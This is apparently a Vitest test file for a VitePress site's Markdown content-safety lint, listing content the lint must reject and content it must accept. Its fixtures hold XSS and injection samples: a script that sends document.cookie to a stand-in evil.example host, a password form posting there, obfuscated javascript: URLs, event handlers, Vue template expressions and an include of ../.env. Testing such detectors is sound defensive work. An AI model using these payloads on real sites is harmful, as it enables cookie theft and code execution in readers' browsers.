import type MarkdownIt from 'markdown-it'
import { createMarkdownRenderer } from 'vitepress'
import { describe, expect, test } from 'vitest'
import { markdownComponentNames } from '../../.vitepress/theme/markdown-components'
import {
  formatContentProblem,
  lintMarkdown,
  splitFrontmatter
} from '../../scripts/lib/content-safety'

// VitePress's own Markdown parser, as the lint uses it (no highlighting).
const md = (await createMarkdownRenderer('docs', {
  highlight: () => ''
})) as unknown as MarkdownIt

const options = {
  components: ['ContactList', 'ReportRoutes'],
  pagesFolder: 'docs',
  dataLoaderFolder: '.vitepress'
}

/** The lint's messages for `source`, as `line: message`. */
function lint(source: string, file = 'docs/page.md'): string[] {
  return lintMarkdown(md, source, file, options).map(
    ({ line, message }) => `${line}: ${message}`
  )
}

const script =
  'it runs code in every reader’s browser (a <script setup> may only import data loaders from .vitepress/)'

describe('content that fails the lint, with its message', () => {
  test.each([
    [
      'a <script> block',
      '# Page\n\n<script>alert(1)</script>\n',
      [`3: <script> tag: not allowed in Markdown, because ${script}`]
    ],
    [
      'a <script setup> block, which VitePress hoists',
      'Text\n\n<script setup>\nconst x = 1\n</script>\n',
      [`3: <script> tag: not allowed in Markdown, because ${script}`]
    ],
    [
      'a <script setup> that imports a data loader and runs code',
      "<script setup>\nimport { data as d } from '../.vitepress/slack/welcome-message.data'\nfetch('https://evil.example/?' + document.cookie)\n</script>\n",
      [`1: <script> tag: not allowed in Markdown, because ${script}`]
    ],
    [
      'a <script setup> that imports a Node module',
      "<script setup>\nimport { data as d } from 'node:child_process'\n</script>\n",
      [`1: <script> tag: not allowed in Markdown, because ${script}`]
    ],
    [
      'a <script setup> that imports a module that is not a data loader',
      "<script setup>\nimport { data as d } from '../.vitepress/config.mts'\n</script>\n",
      [`1: <script> tag: not allowed in Markdown, because ${script}`]
    ],
    [
      'a <script setup> that imports a data loader outside .vitepress/',
      "<script setup>\nimport { data as d } from './evil.data'\n</script>\n",
      [`1: <script> tag: not allowed in Markdown, because ${script}`]
    ],
    [
      'a <script setup src>',
      '<script setup src="./evil.ts">\nimport { data as d } from \'../.vitepress/a.data\'\n</script>\n',
      [`1: <script> tag: not allowed in Markdown, because ${script}`]
    ],
    [
      'an upper-case <SCRIPT>',
      '<SCRIPT src="https://evil.example/x.js"></SCRIPT>\n',
      [`1: <script> tag: not allowed in Markdown, because ${script}`]
    ],
    [
      'a <style> block',
      '<style>\n.VPNav { display: none }\n</style>\n',
      [
        '1: <style> tag: not allowed in Markdown, because VitePress hoists it into the page’s component, where it can restyle the whole site'
      ]
    ],
    [
      'an <iframe> in a paragraph',
      'Watch <iframe src="https://video.example/1"></iframe> this.\n',
      [
        '1: <iframe> tag: not allowed in Markdown, because it embeds another site'
      ]
    ],
    [
      'an <object>',
      '<object data="/x.swf"></object>\n',
      [
        '1: <object> tag: not allowed in Markdown, because it embeds external content or plugins'
      ]
    ],
    [
      'a <base>',
      'Text <base href="https://evil.example/"> more\n',
      [
        '1: <base> tag: not allowed in Markdown, because it changes where every relative link on the page points'
      ]
    ],
    [
      'a <form>',
      '<form action="https://evil.example/"><input name="password"></form>\n',
      [
        '1: <form> tag: not allowed in Markdown, because it can send readers’ input anywhere'
      ]
    ],
    [
      'an inline event handler',
      'Look <img src="/x.png" alt="" onerror="alert(1)"> here\n',
      [
        '1: inline event handler onerror= on <img>: it runs code when a reader interacts with the page; remove it'
      ]
    ],
    [
      'an event handler in a multi-line HTML block, on its own line',
      '<div>\n  <p>fine</p>\n  <p onmouseover="steal()">hover</p>\n</div>\n',
      [
        '3: inline event handler onmouseover= on <p>: it runs code when a reader interacts with the page; remove it'
      ]
    ],
    [
      'a javascript: URL in an HTML link',
      '<a href="javascript:alert(1)">click</a>\n',
      [
        '1: javascript: URL in href= on <a>: it runs code when followed; link to a page instead'
      ]
    ],
    [
      'a javascript: URL hidden by character references',
      'Text <a href="jav&#x61;script&colon;alert(1)">click</a>\n',
      [
        '1: javascript: URL in href= on <a>: it runs code when followed; link to a page instead'
      ]
    ],
    [
      'a javascript: URL hidden by spaces, a tab and case',
      'Text <a href=" JavaS\tcript:alert(1)">click</a>\n',
      [
        '1: javascript: URL in href= on <a>: it runs code when followed; link to a page instead'
      ]
    ],
    [
      'a javascript: URL in a Markdown link',
      'Text\n[click](javascript:alert(1))\n',
      [
        '2: javascript: URL in href= on <a>: it runs code when followed; link to a page instead'
      ]
    ],
    [
      'a Vue expression in text',
      'One plus one is {{ 1 + 1 }}.\n',
      [
        '1: Vue template expression "{{" in text: Markdown is compiled as a Vue template, so {{ … }} runs code at build time; write &#123;&#123; to show the braces, or use a fenced code block'
      ]
    ],
    [
      'a Vue expression on the second line of a paragraph',
      'First line\nsecond {{ process.exit() }} line\n',
      [
        '2: Vue template expression "{{" in text: Markdown is compiled as a Vue template, so {{ … }} runs code at build time; write &#123;&#123; to show the braces, or use a fenced code block'
      ]
    ],
    [
      'a Vue expression behind backslash escapes',
      'Escaped \\{\\{ 2 + 2 }} braces\n',
      [
        '1: Vue template expression "{{" in text: Markdown is compiled as a Vue template, so {{ … }} runs code at build time; write &#123;&#123; to show the braces, or use a fenced code block'
      ]
    ],
    [
      'a Vue expression in inline code, which VitePress does not escape',
      'Write `{{ 1 + 1 }}` here\n',
      [
        '1: Vue template expression "{{" in inline code: Markdown is compiled as a Vue template, so {{ … }} runs code at build time even inside `code`; use a fenced code block, or write &#123;&#123;'
      ]
    ],
    [
      'a Vue expression in a table cell',
      '| a | b |\n| - | - |\n| x | {{ y }} |\n',
      [
        '3: Vue template expression "{{" in text: Markdown is compiled as a Vue template, so {{ … }} runs code at build time; write &#123;&#123; to show the braces, or use a fenced code block'
      ]
    ],
    [
      'a Vue expression in raw HTML',
      '<div>\n{{ secret }}\n</div>\n',
      [
        '2: Vue template expression "{{" in HTML: Markdown is compiled as a Vue template, so {{ … }} runs code at build time; write &#123;&#123; to show the braces, or use a fenced code block'
      ]
    ],
    [
      'a Vue expression in a -vue code block, which VitePress compiles',
      'Text\n\n```js-vue\nconst x = {{ y }}\n```\n',
      [
        '4: Vue template expression "{{" in a -vue code block: Markdown is compiled as a Vue template, so {{ … }} runs code at build time; write &#123;&#123; to show the braces, or use a fenced code block'
      ]
    ],
    [
      'v-html',
      '<div v-html="payload"></div>\n',
      [
        '1: Vue directive v-html on <div>: Markdown is compiled as a Vue template, so directives run code; use plain HTML attributes'
      ]
    ],
    [
      'a :prop binding on plain HTML',
      'Text <span :title="secret">x</span>\n',
      [
        '1: Vue directive :title on <span>: Markdown is compiled as a Vue template, so directives run code; use plain HTML attributes'
      ]
    ],
    [
      'an @event listener',
      '<button @click="boom()">Go</button>\n',
      [
        '1: Vue directive @click on <button>: Markdown is compiled as a Vue template, so directives run code; use plain HTML attributes'
      ]
    ],
    [
      'a #slot shorthand',
      '<template #default="{ x }">y</template>\n',
      [
        '1: Vue directive #default on <template>: Markdown is compiled as a Vue template, so directives run code; use plain HTML attributes'
      ]
    ],
    [
      'an event handler from a {attrs} block',
      'Hello {onclick="alert(1)"}\n',
      [
        '1: inline event handler onclick= on <p>: it runs code when a reader interacts with the page; remove it'
      ]
    ],
    [
      'a directive from a {attrs} block on a link',
      'See [this](./page){@click="boom()"}\n',
      [
        '1: Vue directive @click on <a>: Markdown is compiled as a Vue template, so directives run code; use plain HTML attributes'
      ]
    ],
    [
      'an unknown component',
      '<FooBar />\n',
      [
        '1: unknown component <FooBar>: Markdown may use only <ContactList>, <ReportRoutes> (the allowlist in .vitepress/theme/markdown-components.ts)'
      ]
    ],
    [
      "Vue's dynamic <component>",
      'Text <component is="script">alert(1)</component>\n',
      [
        '1: unknown component <component>: Markdown may use only <ContactList>, <ReportRoutes> (the allowlist in .vitepress/theme/markdown-components.ts)'
      ]
    ],
    [
      'a custom element',
      '<my-widget></my-widget>\n',
      [
        '1: unknown component <my-widget>: Markdown may use only <ContactList>, <ReportRoutes> (the allowlist in .vitepress/theme/markdown-components.ts)'
      ]
    ],
    [
      'an event listener on an allowed component',
      '<ReportRoutes @vue:mounted="steal()" />\n',
      [
        '1: Vue directive @vue:mounted on <ReportRoutes>: Markdown is compiled as a Vue template, so directives run code; components may only take plain attributes and :prop bindings'
      ]
    ],
    [
      'an expression bound to an allowed component',
      '<ContactList :limit="fetch(\'/x\')" />\n',
      [
        '1: Vue binding :limit="fetch(\'/x\')" on <ContactList>: a component may only be given a literal or a property path, not an expression'
      ]
    ],
    [
      'an event handler in frontmatter, which the home page shows with v-html',
      '---\ntitle: Home\nhero:\n  tagline: Hi <img src=x onerror=alert(1)>\n---\n\n# Home\n',
      [
        '4: inline event handler onerror= on <img>: it runs code when a reader interacts with the page; remove it'
      ]
    ],
    [
      'a javascript: URL in frontmatter',
      '---\nhero:\n  actions:\n    - text: Go\n      link: javascript:alert(1)\n---\n',
      [
        '5: javascript: URL in frontmatter hero.actions[0].link: it runs code when followed; link to a page instead'
      ]
    ],
    [
      'a script added by frontmatter head',
      '---\nhead:\n  - - script\n    - {}\n    - alert(1)\n---\n',
      [`3: frontmatter head adds a <script>: not allowed, because ${script}`]
    ],
    [
      'an event handler added by frontmatter head',
      '---\nhead:\n  - - meta\n    - name: x\n      onload: alert(1)\n---\n',
      [
        '5: inline event handler onload= on <meta> in frontmatter head: it runs code when a reader interacts with the page; remove it'
      ]
    ],
    [
      'an @include of a file outside docs/',
      '# Page\n\n<!--@include: ../.env-->\n',
      ['3: @include of "../.env": it reads a file outside docs/ into the page']
    ],
    [
      'a <<< snippet import of a file outside docs/',
      '# Page\n\n<<< ../package.json\n',
      [
        '3: <<< snippet import of "../package.json": it reads a file outside docs/ into the page'
      ]
    ]
  ])('%s', (_name, source, expected) => {
    expect(lint(source)).toEqual(expected)
  })

  test('lines count from the top of the file, frontmatter included', () => {
    const source = '---\ntitle: T\ndescription: D\n---\n\n# T\n\nText {{ x }}\n'
    expect(lint(source)[0]).toMatch(/^8: /)
  })

  test('every problem is reported, in line order', () => {
    const source = 'a {{ b }}\n\n<script>x</script>\n\n<p onclick="y">z</p>\n'
    expect(lint(source).map((message) => message.split(':')[0])).toEqual([
      '1',
      '3',
      '5'
    ])
  })

  test('the message names the file and line', () => {
    const [problem] = lintMarkdown(
      md,
      'x\n\n<iframe></iframe>\n',
      'docs/rules.md',
      options
    )
    expect(formatContentProblem(problem!)).toBe(
      'docs/rules.md:3: <iframe> tag: not allowed in Markdown, because it embeds another site'
    )
  })
})

describe('content that passes', () => {
  test.each([
    [
      'plain Markdown',
      '# Title\n\nA [link](./page.md), **bold**, a list:\n\n- one\n- two\n'
    ],
    [
      'a fenced code block with braces',
      '```js\nconst x = `{{ y }}`\n<script>alert(1)</script>\n```\n'
    ],
    ['an indented code block', 'Text\n\n    {{ y }}\n'],
    ['a ::: v-pre container', '::: v-pre\nShow {{ this }} as is.\n:::\n'],
    [
      'braces written as character references',
      'Write &#123;&#123; x }} to show braces.\n'
    ],
    ['an allowed component', '## Report {#report}\n\n<ReportRoutes />\n'],
    ['an allowed component in kebab case', '<report-routes></report-routes>\n'],
    ['an allowed component inline', 'Contacts: <ContactList /> end\n'],
    [
      'plain and bound attributes on an allowed component',
      '<ContactList title="Team" :limit="3" :show-roles="true" :items="$frontmatter.contacts" />\n'
    ],
    [
      'harmless HTML',
      'Press <kbd>Ctrl</kbd> <abbr title="Keyboard">K</abbr>\n\n<details><summary>More</summary>Text</details>\n'
    ],
    [
      'inline SVG with camelCase elements',
      '<svg viewBox="0 0 1 1"><linearGradient id="g"></linearGradient><clipPath id="c"></clipPath></svg>\n'
    ],
    [
      'prose that mentions the dangers',
      'Never post javascript: links, onclick handlers or a script tag.\n'
    ],
    ['a heading id and class from {attrs}', '## Rules {#rules .wide}\n'],
    ['an HTTPS link', '[Prefect](https://www.prefect.io/)\n'],
    ['an @include inside docs/', '<!--@include: ./parts/intro.md-->\n'],
    ['a snippet import inside docs/', '<<< @/snippets/example.ts\n'],
    [
      'a <script setup> that only imports data loaders from .vitepress/',
      '<script setup lang="ts">\nimport { data as welcome } from \'../.vitepress/slack/welcome-message.data\'\nimport { data as rules } from \'../.vitepress/rules/rules.data.ts\'\n</script>\n\n# Welcome\n\n<ContactList :text="welcome.mrkdwn" />\n'
    ],
    [
      'frontmatter with plain strings',
      '---\ntitle: Rules\nhero:\n  tagline: Ask, share & learn\n  actions:\n    - link: /community\n---\n'
    ]
  ])('%s', (_name, source) => {
    expect(lint(source)).toEqual([])
  })
})

describe('the allowlist the theme registers', () => {
  const withAllowlist = (source: string) =>
    lintMarkdown(md, source, 'docs/page.md', {
      components: markdownComponentNames,
      pagesFolder: 'docs',
      dataLoaderFolder: '.vitepress'
    }).map(({ message }) => message)

  test('allows each registered component', () => {
    for (const name of markdownComponentNames) {
      expect(withAllowlist(`<${name} />\n`)).toEqual([])
    }
  })

  test('names every registered component when it rejects one', () => {
    const [message] = withAllowlist('<Unknown />\n')
    for (const name of markdownComponentNames) {
      expect(message).toContain(`<${name}>`)
    }
  })
})

describe('splitFrontmatter', () => {
  test.each([
    ['no frontmatter', '# T\n', { body: '# T\n', bodyLineOffset: 0 }],
    [
      'frontmatter',
      '---\na: 1\n---\n# T\n',
      { frontmatter: 'a: 1', body: '# T\n', bodyLineOffset: 3 }
    ],
    [
      'Windows line endings',
      '---\r\na: 1\r\n---\r\n# T\r\n',
      { frontmatter: 'a: 1', body: '# T\r\n', bodyLineOffset: 3 }
    ]
  ])('%s', (_name, source, expected) => {
    expect(splitFrontmatter(source)).toEqual(expected)
  })
})
